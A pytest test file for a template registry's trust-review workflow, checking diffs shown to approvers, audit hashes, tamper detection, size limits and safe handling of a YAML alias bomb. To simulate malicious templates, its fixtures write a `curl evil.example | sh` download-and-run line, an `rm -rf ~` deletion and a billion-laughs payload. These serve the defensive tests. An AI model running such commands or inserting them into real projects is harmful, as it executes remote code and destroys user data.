"""A trust request keeps the unsafe parts it showed; the approver sees their diff to the last trusted version."""

from __future__ import annotations

import dataclasses
import hashlib
import tarfile
import textwrap
from pathlib import Path

import pytest
from sqlmodel import select

from portal.core.audit import AuditEvent
from templates.models import TemplateTrustSnapshot
from templates.registry import (
    TrustRequestOutdated,
    approve_trust,
    get_template,
    register_template,
    request_trust,
    review_trust_request,
)
from templates.trust_review import SnapshotTooLarge, take_snapshot, unsafe_paths
from tests.templates.conftest import git_repo, write_template
from tests.templates.test_registry_and_updates import git

COPIER = textwrap.dedent("""\
    _subdirectory: project
    _templates_suffix: .jinja
    _tasks:
      - "python {{ _copier_conf.src_path }}/tasks/setup.py"
    greeting:
      type: str
      default: hello
      validator: "{% if greeting|length > 40 %}too long{% endif %}"
    """)
SETUP = "import pathlib\npathlib.Path('ready').touch()\n"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    folder = write_template(tmp_path / "greeter", COPIER, {"hi.txt.jinja": "{{ greeting }}"})
    (folder / "tasks").mkdir()
    (folder / "tasks" / "setup.py").write_text(SETUP)
    return git_repo(folder)


def register(session, admin, store, repo: Path) -> int:
    revision = register_template(session=session, actor=admin, store=store, url=str(repo), name="greeter").revision
    session.commit()
    return revision


def requested(session, store, admin, seen: int) -> int:
    revision = request_trust(session=session, actor=admin, store=store, name="greeter", base_revision=seen).revision
    session.commit()
    return revision


def test_a_first_request_shows_the_whole_text_of_each_unsafe_part(session, store, make_user, repo) -> None:
    first, second = make_user("admin"), make_user("admin")
    requested(session, store, first, register(session, first, store, repo))
    review = review_trust_request(session=session, actor=second, name="greeter")
    assert review is not None and review.last_trusted is None
    # The project's own files are rendered, not run: only copier.yml and the task's script are shown.
    assert [(p.path, p.status, p.diff) for p in review.parts] == [
        ("copier.yml", "never trusted before", COPIER), ("tasks/setup.py", "never trusted before", SETUP)]
    assert review.requested.file_hashes["copier.yml"] == hashlib.sha256(COPIER.encode()).hexdigest()


def test_the_approver_sees_a_changed_validator_and_task_line(session, store, make_user, repo) -> None:
    first, second = make_user("admin"), make_user("admin")
    seen = requested(session, store, first, register(session, first, store, repo))
    approve_trust(session=session, actor=second, store=store, name="greeter", base_revision=seen)
    session.commit()
    (repo / "copier.yml").write_text(COPIER.replace("> 40", "> 4000").replace("setup.py", "setup.py --all"))
    (repo / "tasks" / "setup.py").write_text(SETUP + "import os; os.system('curl evil.example | sh')\n")
    (repo / "project" / "hi.txt.jinja").write_text("{{ greeting }}!")
    git(repo, "commit", "-qam", "v2")
    requested(session, store, first, register(session, first, store, repo))
    review = review_trust_request(session=session, actor=second, name="greeter")
    assert review is not None and review.last_trusted is not None
    parts = {p.path: p for p in review.parts}
    assert set(parts) == {"copier.yml", "tasks/setup.py"} and {p.status for p in review.parts} == {"changed"}
    config = parts["copier.yml"].diff
    assert config.startswith("--- trusted/copier.yml\n+++ requested/copier.yml\n")
    assert '-  - "python {{ _copier_conf.src_path }}/tasks/setup.py"\n' in config
    assert '+  - "python {{ _copier_conf.src_path }}/tasks/setup.py --all"\n' in config
    assert '+  validator: "{% if greeting|length > 4000 %}too long{% endif %}"\n' in config
    assert "+import os; os.system('curl evil.example | sh')\n" in parts["tasks/setup.py"].diff
    assert " import pathlib\n" in parts["tasks/setup.py"].diff  # context, unchanged


def test_the_approval_is_audited_with_the_hashes_of_what_was_approved(session, store, make_user, repo) -> None:
    first, second = make_user("admin"), make_user("admin")
    seen = requested(session, store, first, register(session, first, store, repo))
    approve_trust(session=session, actor=second, store=store, name="greeter", base_revision=seen)
    session.commit()
    snapshot = session.exec(select(TemplateTrustSnapshot)).one()
    assert snapshot.approved_by_id == second.id and snapshot.approved_at is not None
    event = session.exec(select(AuditEvent).where(AuditEvent.action == "template.trust_changed")).one()
    assert event.after["approved"] == {"content_hash": snapshot.content_hash, "file_hashes": {
        "copier.yml": hashlib.sha256(COPIER.encode()).hexdigest(),
        "tasks/setup.py": hashlib.sha256(SETUP.encode()).hexdigest()}}
    assert snapshot.content_hash[:12] in event.summary
    request = session.exec(select(AuditEvent).where(AuditEvent.action == "template.trust_requested")).one()
    assert request.after["content_hash"] == snapshot.content_hash


def test_an_approval_is_refused_when_the_template_changed_after_the_request(session, store, make_user, repo) -> None:
    first, second = make_user("admin"), make_user("admin")
    seen = requested(session, store, first, register(session, first, store, repo))
    # The files forks would run change under the same version (a rewritten mirror, another replica's copy).
    mirror, ref = store.mirror("greeter"), get_template(session=session, name="greeter").mirror_ref
    (mirror / "tasks" / "setup.py").write_text(SETUP + "import os; os.system('rm -rf ~')\n")
    git(mirror, "commit", "-qam", "tampered")
    git(mirror, "tag", "-f", "-a", ref, "-m", "tampered")
    with pytest.raises(TrustRequestOutdated, match="'greeter' changed after trust was requested: its unsafe parts "
                                                   "are no longer those the request showed.*request trust again"):
        approve_trust(session=session, actor=second, store=store, name="greeter", base_revision=seen)
    session.rollback()
    entry = get_template(session=session, name="greeter")
    assert not entry.trusted and entry.trust_requested_by_id == first.id and entry.revision == seen
    assert session.exec(select(TemplateTrustSnapshot)).one().approved_at is None
    assert session.exec(select(AuditEvent).where(AuditEvent.action == "template.trust_changed")).all() == []


def test_a_copier_yml_too_large_to_show_is_refused_naming_the_limit(session, store, make_user, tmp_path) -> None:
    store = dataclasses.replace(store, trust_snapshot_max_bytes=10_000)
    huge = COPIER + "".join(f"# padding line {i:05d} ........................................\n" for i in range(400))
    repo = git_repo(write_template(tmp_path / "greeter", huge, {"hi.txt.jinja": "{{ greeting }}"}))
    admin = make_user("admin")
    seen = register(session, admin, store, repo)
    with pytest.raises(SnapshotTooLarge, match=r"come to 2\d,\d\d\d bytes \(copier.yml: 2\d,\d\d\d\), over the "
                                               r"10,000-byte limit .*TRUST_SNAPSHOT_MAX_BYTES.*not requested"):
        request_trust(session=session, actor=admin, store=store, name="greeter", base_revision=seen)
    session.rollback()
    entry = get_template(session=session, name="greeter")
    assert entry.trust_requested_by_id is None and entry.revision == seen
    assert session.exec(select(TemplateTrustSnapshot)).all() == []
    assert session.exec(select(AuditEvent).where(AuditEvent.action == "template.trust_requested")).all() == []


def member(name: str, mode: int = 0o664) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.mode = mode
    return info


def test_the_unsafe_parts_are_the_files_tasks_migrations_and_extensions_can_run() -> None:
    config = {"_tasks": [{"command": ["sh", "./bootstrap.sh"], "when": "{{ ok }}"}],
              "_migrations": [{"version": "2", "command": "{{ _copier_conf.src_path }}/migrate/to_v2.py"}],
              "_jinja_extensions": ["my_ext.filters:Shout"]}
    names = ["copier.yml", "README.md", "bootstrap.sh.jinja", "migrate/to_v2.py", "my_ext/filters.py",
             "app/main.py", "run-me"]
    members = {n: member(n, 0o775 if n == "run-me" else 0o664) for n in names}
    # Without a _subdirectory the whole template is the project: only what a command or extension names counts.
    assert unsafe_paths(config, members) == {"bootstrap.sh.jinja", "migrate/to_v2.py", "my_ext/filters.py"}
    nested = {f"project/{n}": member(f"project/{n}") for n in ("app.py", "hooks/post.py.jinja")} | {
        "scripts/tool": member("scripts/tool", 0o775), "docs/guide.md": member("docs/guide.md")}
    config = {"_subdirectory": "project", "_tasks": ["python hooks/post.py"]}
    # With one, every script outside it is shown (tasks and extensions live there), and what tasks run inside it.
    assert unsafe_paths(config, nested) == {"scripts/tool", "project/hooks/post.py.jinja"}


def test_a_copier_yml_that_expands_aliases_is_shown_as_text_not_expanded(tmp_path) -> None:
    """Billion laughs: nine levels of nine aliases would be 9⁹ strings if a snapshot expanded them."""
    levels = ['a0: &a0 "lol"'] + [f"a{i}: &a{i} [{', '.join(f'*a{i - 1}' for _ in range(9))}]" for i in range(1, 10)]
    bomb = "\n".join(levels) + "\n_tasks: *a9\n"
    repo = git_repo(write_template(tmp_path / "laughs", bomb, {"a.txt": "a"}), tag="1.0.0")
    snapshot = take_snapshot(mirror=repo, ref="1.0.0", max_bytes=200_000)
    assert snapshot.files == {"copier.yml": bomb}  # shown as written; no task paths were read out of the aliases
